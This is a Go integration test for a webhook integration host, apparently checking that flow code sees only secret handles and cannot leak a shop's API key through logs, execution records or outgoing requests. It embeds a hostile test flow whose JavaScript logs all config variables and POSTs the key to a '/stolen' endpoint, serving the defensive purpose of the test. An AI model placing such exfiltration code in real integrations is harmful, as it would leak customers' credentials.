package main_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/hookstep-dev/hookstep/host/integration/recording"
	"github.com/hookstep-dev/hookstep/plugins/oauth2/authserver"
)

const shopKey = "a-key-of-the-shop-4711"

// peek is a flow whose code tells what it sees, and tries to send the shop's key to the CRM.
const peek = `
  - name: Peek
    synchronous: true
    steps:
      - name: Look
        code: |
          module.exports = async ({ configVars, logger }) => {
            logger.info("seen", configVars);
            const body = JSON.stringify(configVars["Shop API"]);
            const stolen = await fetch(configVars["CRM URL"] + "/stolen", { method: "POST", body }).catch(({ message, cause }) => message + " " + cause?.message);
            return { data: { configVars, stolen } };
          };
`

// TestHiddenSecretsWork has crm-sync, whose code sees no secret, write a contact with an API key and with OAuth client credentials.
func TestHiddenSecretsWork(t *testing.T) {
	t.Parallel()
	o := newOffice(t, authserver.Options{Kind: authserver.Plain})
	crm := newCRM(t, o)
	crm.write()
	o.serve("crm-sync")
	if status, answer := crm.deliver("harbor"); status != http.StatusServiceUnavailable || !strings.Contains(answer, "not set up yet") {
		t.Errorf("before anything is set, the webhook is answered %d %s", status, answer)
	}
	o.save("key", shopKey+"\n")
	o.cli("connections", "set", "Shop API", "--instance", "harbor", "apiKey=@key")
	o.set("CRM", o.robot, "--instance", "harbor")

	if status, answer := crm.deliver("harbor"); status != http.StatusOK || !strings.Contains(answer, `"written":true`) {
		t.Errorf("the webhook is answered %d %s", status, answer)
	}
	if got := crm.contacts(); len(got) != 1 || got[0] != `{"name":"Ada Byron","email":"ada@example.com","source":"shop"}` {
		t.Errorf("the CRM has the contacts %q", got)
	}

	_, seen := o.post("harbor/peek", "{}")
	crm.holdsHandlesOnly("the answer of code that tells all", seen)
	if !strings.Contains(seen, "which may be sent to "+crm.shop.URL+" only") || crm.robbed.Load() {
		t.Errorf("code sends the shop's key to the CRM (%t), and is told %s", crm.robbed.Load(), seen)
	}
	peeked := crm.execution("peek")
	crm.holdsHandlesOnly("the line that code logs", o.cli("executions", "logs", peeked))
	crm.holdsHandlesOnly("its execution", o.cli("executions", "show", peeked, "--full", "--json"))
	crm.holdsNoSecret("the log of the host", o.host.server.out.String()+o.host.server.err.String())
}

// crm is a customer's shop, with a key, and the customer's CRM, behind an authorization server.
type crm struct {
	*office

	shop   *httptest.Server
	bureau *bureau
	lock   sync.Mutex
	kept   []string
	robbed atomic.Bool
}

func newCRM(t *testing.T, o *office) *crm {
	t.Helper()
	made := &crm{office: o, bureau: newBureau(t, o.server, o.robot)}
	made.shop = httptest.NewServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
		if request.Header.Get("X-Shop-Key") != shopKey {
			http.Error(writer, "wrong key", http.StatusUnauthorized)
			return
		}
		_ = json.NewEncoder(writer).Encode(map[string]string{"id": filepath.Base(request.URL.Path), "name": "Ada Byron", "email": "ada@example.com"})
	}))
	t.Cleanup(made.shop.Close)
	mux := http.NewServeMux()
	mux.Handle("PUT /v2/contacts/{id}", made.bureau.guard(made.keep))
	mux.HandleFunc("POST /stolen", func(http.ResponseWriter, *http.Request) { made.robbed.Store(true) })
	made.bureau.Config.Handler = mux
	return made
}

func (c *crm) keep(_ http.ResponseWriter, request *http.Request) {
	body, _ := io.ReadAll(request.Body)
	c.lock.Lock()
	defer c.lock.Unlock()
	c.kept = append(c.kept, string(body))
}

func (c *crm) contacts() []string {
	c.lock.Lock()
	defer c.lock.Unlock()
	return c.kept
}

// write puts crm-sync into the folder: with the addresses of this test, and one more flow.
func (c *crm) write() {
	c.t.Helper()
	folder := filepath.Join(c.folder, "crm-sync")
	if err := os.CopyFS(folder, os.DirFS(filepath.Join(repository(c.t), "testdata", "integrations", "crm-sync"))); err != nil {
		c.t.Fatal(err)
	}
	text, err := os.ReadFile(filepath.Join(folder, "integration.yaml"))
	if err != nil {
		c.t.Fatal(err)
	}
	c.save("crm-sync/integration.yaml", strings.NewReplacer(
		"https://api.shop.example", c.shop.URL, "[api.shop.example]", fmt.Sprintf("[%q]", c.shop.URL),
		"https://eu.crm.example", c.bureau.URL, `"*.crm.example"`, fmt.Sprintf("%q", c.bureau.URL),
		"https://login.crm.example/oauth2/token", c.server.TokenURL,
	).Replace(string(text))+peek)
}

// deliver sends the webhook that is recorded for an instance.
func (c *crm) deliver(instance string) (status int, answer string) {
	c.t.Helper()
	recorded, err := recording.Read(os.DirFS(filepath.Join(repository(c.t), "testdata", "webhooks", "shop")), "contact-changed-"+instance)
	if err != nil {
		c.t.Fatal(err)
	}
	request, err := recorded.Request(c.t.Context(), c.host.hooks)
	if err != nil {
		c.t.Fatal(err)
	}
	response, err := c.host.client.Do(request)
	if err != nil {
		c.t.Fatal(err)
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		c.t.Fatal(err)
	}
	return response.StatusCode, string(body)
}

// execution waits until the newest execution that is kept is of a flow, and gives its ID.
func (c *crm) execution(flow string) (id string) {
	c.t.Helper()
	if err := poll(func() error {
		var page struct{ Executions []struct{ ID, Flow string } }
		if err := json.Unmarshal([]byte(c.cli("executions", "list", "--json")), &page); err != nil {
			return err
		}
		if len(page.Executions) == 0 || page.Executions[0].Flow != flow {
			return fmt.Errorf("the newest execution of %+v is not of %s", page.Executions, flow)
		}
		id = page.Executions[0].ID
		return nil
	}); err != nil {
		c.t.Fatal(err)
	}
	return id
}

func (c *crm) holdsNoSecret(place, text string) {
	c.t.Helper()
	for _, secret := range append(c.bureau.tokens(), shopKey, c.robot.Secret) {
		if strings.Contains(text, secret) {
			c.t.Errorf("%s has a secret: %s", place, text)
		}
	}
}

func (c *crm) holdsHandlesOnly(place, text string) {
	c.t.Helper()
	c.holdsNoSecret(place, text)
	if !strings.Contains(text, "hks-") {
		c.t.Errorf("%s has no handle: %s", place, text)
	}
}
